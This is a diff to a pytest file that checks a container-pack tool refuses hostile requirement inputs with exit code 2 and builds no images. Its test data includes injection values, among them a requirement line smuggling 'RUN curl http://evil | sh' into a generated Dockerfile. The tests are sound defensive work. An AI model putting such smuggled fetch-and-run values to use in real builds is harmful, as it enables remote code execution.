@@ -11,6 +11,8 @@ from pathlib import Path
 import pytest
 import yaml
 
+from attune_containers.core import labels as L
+
 from ..support import TEST_PREFIX, images_of, unique_ref
 
 
@@ -54,6 +56,14 @@ def test_build_then_rebuild_reuses(tmp_path, engine):
     assert images_of(engine, pack_ref) == []
 
 
+def ours(engine) -> set[str]:
+    """Every image of this test run, tagged or not (other sessions may share the engine); a
+    refused pack must add none, not even an untagged build stage."""
+    return {i["Id"] for i in engine.list_images({L.MANAGED: "true"}, dangling=None)
+            if any(t.startswith(TEST_PREFIX + "/") for t in i.get("RepoTags") or [])} | {
+        i["Id"] for i in engine.list_images(dangling=True)}
+
+
 HOSTILE = {
     "newline in a requirement": ["requests\nRUN curl http://evil | sh"],
     "dockerfile instruction": ["requests==2.31.0\nFROM scratch"],
@@ -71,13 +81,13 @@ HOSTILE = {
 def test_hostile_requirements_are_refused_with_exit_2(tmp_path, engine, dependencies):
     pack_ref = unique_ref("hostile")
     pack = write_pack(tmp_path, pack_ref, dependencies)
-    before = len(engine.list_images())
+    before = ours(engine)
     for command in ("build", "render", "validate"):
         result = cli(command, str(pack))
         assert result.returncode == 2, (command, result.stdout, result.stderr)
         assert "error" in result.stderr
     assert images_of(engine, pack_ref) == []
-    assert len(engine.list_images()) == before
+    assert ours(engine) == before
 
 
 @pytest.mark.parametrize(
@@ -92,11 +102,11 @@ def test_hostile_requirements_are_refused_with_exit_2(tmp_path, engine, dependen
     ],
 )
 def test_hostile_api_documents_are_refused_with_exit_2(document, needle, engine):
-    before = len(engine.list_images())
+    before = ours(engine)
     result = cli("build", "-", stdin=json.dumps(document))
     assert result.returncode == 2, (result.stdout, result.stderr)
     assert needle in result.stderr
-    assert len(engine.list_images()) == before
+    assert ours(engine) == before
 
 
 def test_render_prints_the_dockerfile_without_pack_strings(tmp_path):
